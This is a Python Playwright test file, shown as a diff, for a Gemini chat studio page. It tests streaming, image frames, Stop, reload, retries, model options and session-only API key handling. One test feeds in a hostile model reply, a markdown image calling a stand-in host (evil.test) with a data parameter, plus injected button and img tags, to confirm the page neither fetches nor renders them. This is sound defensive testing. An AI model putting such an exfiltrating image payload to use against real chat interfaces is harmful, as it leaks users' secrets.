@@ -1,0 +1,209 @@
+"""With a key, against the strict server: streaming, pictures, Stop, reload, failures, the key of a session."""
+
+from __future__ import annotations
+
+import json
+import urllib.request
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.page import PageProcess
+from tests.page.hands import composer, expect_loaded, expect_rest, open_page, pictures, say
+from tests.wire_server import GeminiProcess
+
+CANARY = "AIzaSyCANARY-of-the-session-9876"
+
+
+@pytest.fixture(autouse=True)
+def _clear(gemini: GeminiProcess) -> Iterator[None]:
+    gemini.control(clear=True)
+    yield
+    gemini.control(release=True)
+    assert gemini.read("violations") == []
+
+
+def words(text: str, chunks: int = 10) -> dict[str, Any]:
+    return {"kind": "Text", "text": text, "chunks": chunks}
+
+
+def paint(count: int = 1, ratio: str = "3:2") -> dict[str, Any]:
+    arguments = {"prompt": "A red fox in snow", "aspect_ratio": ratio, "number_of_images": count}
+    return {"kind": "Call", "name": "generate_image", "args": arguments, "text_before": "I paint it now."}
+
+
+def held(answer: dict[str, Any], after_chunks: int = 1) -> dict[str, Any]:
+    return {"kind": "Hold", "answer": answer, "after_chunks": after_chunks}
+
+
+def test_an_answer_streams_as_markdown(page: Page, gemini: GeminiProcess, gemini_studio: PageProcess) -> None:
+    gemini.control(on_text=[held(words("A **fox** it is. " * 20, chunks=20), after_chunks=4)])
+    open_page(page, gemini_studio.url)
+    say(page, "talk to me of foxes")
+    expect(page.locator("#chat .bot strong").first).to_have_text("fox")
+    expect(page.locator(".live")).to_contain_text("Thinking…")
+    expect(page.locator("#box .stop-button")).to_be_visible()
+    gemini.control(release=True)
+    expect(page.locator("#chat .bot strong")).to_have_count(20)
+    expect_rest(page)
+
+
+def test_a_frame_of_the_right_shape_stands_before_its_picture(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    gemini.control(on_text=[paint(ratio="9:16")], on_image=[held({"kind": "PictureAnswer"}, after_chunks=0)])
+    open_page(page, gemini_studio.url)
+    say(page, "a tall fox")
+    frame = page.locator(".frame.pending")
+    expect(frame).to_be_visible()
+    expect(page.locator(".live")).to_contain_text("Painting a picture with")
+    before = frame.bounding_box()
+    gemini.control(release=True)
+    expect(pictures(page)).to_have_count(1)
+    expect_loaded(pictures(page).first)
+    expect_rest(page)
+    after = page.locator(".frame").bounding_box()
+    assert before is not None
+    assert after is not None
+    assert abs(before["width"] / before["height"] - after["width"] / after["height"]) < 0.02
+
+
+def test_stop_stops_and_the_conversation_goes_on(page: Page, gemini: GeminiProcess, gemini_studio: PageProcess) -> None:
+    gemini.control(on_text=[held(words("never ending " * 30, chunks=30), after_chunks=3), words("Here again.")])
+    open_page(page, gemini_studio.url)
+    say(page, "talk on and on")
+    expect(page.locator("#chat .bot")).to_contain_text("never ending")
+    page.locator("#box .stop-button").click()
+    expect(page.locator(".stopped")).to_be_visible(timeout=2_000)
+    expect_rest(page)
+    say(page, "are you there?")
+    expect(page.locator("#chat")).to_contain_text("Here again.")
+    expect(page.locator(".stopped")).to_be_visible()
+
+
+def test_a_reload_in_the_middle_follows_the_turn_to_its_end(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    gemini.control(on_text=[held(words("one two three four five", chunks=5), after_chunks=2)])
+    open_page(page, gemini_studio.url)
+    say(page, "count")
+    expect(page.locator("#chat .bot")).to_contain_text("one")
+    page.reload()
+    expect(page.locator("#chat .bot")).to_contain_text("one")
+    expect(page.locator("#box .stop-button")).to_be_visible()
+    gemini.control(release=True)
+    expect(page.locator("#chat .bot")).to_contain_text("five")
+    expect_rest(page)
+    assert gemini.read("state")["requests"] == 1
+
+
+def test_another_conversation_opened_meanwhile_is_not_written_into(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    gemini.control(on_text=[held(words("first words last words", chunks=4), after_chunks=1)])
+    open_page(page, gemini_studio.url)
+    say(page, "a long story")
+    expect(page.locator("#chat .bot")).to_contain_text("first")
+    page.get_by_role("button", name="New conversation").click()
+    expect(page.locator(".welcome")).to_be_visible()
+    gemini.control(release=True)
+    page.locator("#rail").get_by_role("button", name="a long story").click()
+    expect(page.locator("#chat .bot")).to_contain_text("last words")
+    expect_rest(page)
+
+
+def test_a_failure_says_who_must_act_and_retry_sends_the_same_again(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    gemini.control(on_text=[{"kind": "HttpError", "status": 503}, words("Now it works.")])
+    open_page(page, gemini_studio.url)
+    say(page, "a fox please")
+    card = page.locator("#chat [role=alert]")
+    expect(card).to_contain_text("Who must act")
+    expect(composer(page)).to_have_value("a fox please")
+    composer(page).fill("")
+    card.get_by_role("button", name="Edit my words").click()
+    expect(composer(page)).to_have_value("a fox please")
+    card.get_by_role("button", name="Retry").click()
+    expect(page.locator("#chat")).to_contain_text("Now it works.")
+    expect_rest(page)
+
+
+def test_a_models_picture_from_elsewhere_is_not_fetched_and_its_buttons_are_words(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    hostile = '![x](http://evil.test/?d=key) <button data-act="new">Click</button> <img src="http://evil.test/b">'
+    gemini.control(on_text=[words(hostile, chunks=3)])
+    open_page(page, gemini_studio.url)
+    say(page, "be evil")
+    expect(page.locator("#chat .bot")).to_contain_text("[image: evil.test]")
+    expect_rest(page)
+    expect(page.locator("#chat [data-act=new]")).to_have_count(0)
+    expect(page.locator("#chat .md img")).to_have_count(0)
+
+
+def test_only_what_the_chosen_model_obeys_is_offered(page: Page, gemini_studio: PageProcess) -> None:
+    open_page(page, gemini_studio.url)
+
+    def ratios() -> list[str]:
+        page.get_by_role("combobox", name="Aspect ratio").click()
+        expect(page.get_by_role("option", name="16:9")).to_be_visible()
+        offered = page.get_by_role("option").all_inner_texts()
+        page.keyboard.press("Escape")
+        return [text.replace("✓", "").strip() for text in offered]
+
+    assert "1:8" not in ratios()
+    page.get_by_role("combobox", name="Image").click()
+    page.get_by_role("option", name="Flash").click()
+    expect(page.get_by_role("combobox", name="Image")).to_have_value("Flash")
+    page.get_by_role("combobox", name="Aspect ratio").click()
+    expect(page.get_by_role("option", name="1:8")).to_be_visible()
+
+
+def test_the_locks_of_the_chips_reach_the_model(page: Page, gemini: GeminiProcess, gemini_studio: PageProcess) -> None:
+    gemini.control(on_text=[paint(count=3, ratio="3:2")])
+    open_page(page, gemini_studio.url)
+    for name, value in (("Image", "Pro"), ("Aspect ratio", "4:5"), ("Resolution", "2K"), ("Pictures", "×2")):
+        page.get_by_role("combobox", name=name).click()
+        page.get_by_role("option", name=value, exact=True).click()
+        expect(page.get_by_role("combobox", name=name)).to_have_value(value)
+    say(page, "a fox")
+    expect(pictures(page)).to_have_count(2)
+    expect_rest(page)
+    asked = [request for request in gemini.read("requests") if request["kind"] == "image"]
+    assert len(asked) == 2
+    assert {request["model"] for request in asked} == {"gemini-3-pro-image"}
+
+
+def test_a_key_is_tested_held_for_the_session_and_shown_nowhere(
+    page: Page, gemini: GeminiProcess, gemini_studio: PageProcess
+) -> None:
+    open_page(page, gemini_studio.url)
+    page.get_by_role("button", name="Settings").click()
+    dialog = page.get_by_role("dialog")
+    dialog.get_by_label("Gemini API key").fill(CANARY)
+    dialog.get_by_role("button", name="Test key").click()
+    expect(dialog.get_by_role("status")).to_contain_text("The key works.")
+    dialog.get_by_role("button", name="Save for this session").click()
+    expect(dialog.get_by_role("status")).to_contain_text("Key …9876 is set")
+    expect(dialog.get_by_label("Gemini API key")).to_have_value("")
+    page.reload()
+    expect(page.locator("#top h1")).to_be_visible()
+    page.get_by_role("button", name="Settings").click()
+    expect(dialog.get_by_role("status")).to_contain_text("Key …9876 is set")
+    with urllib.request.urlopen(f"{gemini_studio.url}/config", timeout=20) as answer:
+        assert "CANARY" not in answer.read().decode()
+    assert "CANARY" not in page.content()
+    assert not [path for path in gemini_studio.home.rglob("*") if path.is_file() and b"CANARY" in path.read_bytes()]
+    assert "CANARY" not in gemini_studio.errors
+    dialog.get_by_role("button", name="Remove key").click()
+    expect(dialog.get_by_role("status")).to_contain_text("The studio's own key is in use")
+
+
+def test_the_page_offers_scripts_one_endpoint_only(gemini_studio: PageProcess) -> None:
+    with urllib.request.urlopen(f"{gemini_studio.url}/gradio_api/info", timeout=20) as answer:
+        info = json.load(answer)
+    assert list(info["named_endpoints"]) == ["/chat"]
+    assert info["unnamed_endpoints"] == {}
